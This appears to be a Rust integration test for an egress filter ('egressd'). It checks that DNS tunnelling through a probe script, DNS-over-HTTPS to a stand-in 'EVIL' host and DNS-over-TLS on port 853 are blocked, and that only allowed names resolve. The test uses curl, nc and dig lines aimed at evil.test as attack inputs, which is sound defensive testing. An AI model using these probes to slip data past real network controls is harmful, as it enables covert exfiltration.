//! T36: names as a way out, and what is asked past egressd.

use lab::{DNS, EVIL, Entry, Inside, Lab, need, until};
use std::{collections::BTreeSet, time::Duration};

/// Octets of new labels below a wildcard that leave in a minute.
const BUDGET: usize = 4096;

#[test]
fn t36_dns_as_a_channel() {
    need("nc");
    need("dig");
    let lab = Lab::new();
    lab.zone().put("doh.test", Entry::at(&["198.51.100.20"]));
    let probe = lab.probe("channel.py");
    for (shape, run) in lab.shapes() {
        let before = lab.zone().queries().len();
        let token = lab.token(shape);
        let mut inside = Inside::start(run.flags("--pre-resolve=off --allow .ok.test"));
        let tunnel = inside.ask(&format!("{probe} 203.0.113.8 evil.test ok.test"));
        tunnel.exits(0);
        // No such name, and for what is above nobody's rule neither data nor a question upstream.
        assert_eq!((tunnel.step("closed_a_3"), tunnel.step("closed_txt_3")), (200, 200), "{shape}: {tunnel}");
        assert_eq!(tunnel.step("open_txt_0"), 200, "{shape}: {tunnel}");
        let (passed, kept) = (tunnel.step("open_a_3"), tunnel.step("open_a_2"));
        assert!(passed + kept == 200 && passed > 50 && kept > 50, "{shape}: {tunnel}");
        assert_eq!((tunnel.step("label_1"), tunnel.step("name_1")), (1, 1), "{shape}: {tunnel}");

        let elsewhere = inside.ask(&format!(
            "curl -sS -m2 https://doh.test/dns-query; echo doh=$?
            curl -sS -m2 https://{EVIL}/dns-query; echo address=$?
            nc -z -w2 {DNS} 853; echo dot=$?"
        ));
        let steps = ["doh", "address", "dot"].map(|step| elsewhere.step(step));
        assert_eq!(steps, [6, 7, 1], "{shape}: {elsewhere}");
        // After the flood as before it.
        let asks = |inside: &mut Inside| inside.ask(&format!("curl -4 -fsS -m5 http://ok.test/{token}")).code;
        until(Duration::from_secs(10), "the name that is allowed resolves", || asks(&mut inside) == Some(0));
        lab.expect_hits(&token, 1);
        inside.end().exits(0);

        let asked: BTreeSet<_> = lab.zone().queries().split_off(before).into_iter().map(|query| query.name).collect();
        let left: usize = asked.iter().filter_map(|name| name.strip_suffix(".ok.test")).map(str::len).sum();
        assert!((BUDGET / 2..=BUDGET).contains(&left), "{shape}: {left} octets left");
        assert!(asked.iter().all(|name| name == "ok.test" || name.ends_with(".ok.test")), "{shape}: {asked:?}");
    }
    lab.expect_silence(EVIL);
    let frames = lab.frames();
    assert!(!frames.iter().any(|frame| frame.is_tcp(853) || frame.is_udp(853)), "{frames:?}");
    lab.unconfined(&format!("nc -z -w2 {DNS} 853; dig @{DNS} +tries=1 word.evil.test"));
    assert!(lab.frames().iter().any(|frame| frame.is_tcp(853)), "the control reaches the port");
    assert!(!lab.zone().queries_for("word.evil.test").is_empty(), "and asks for any name");
}
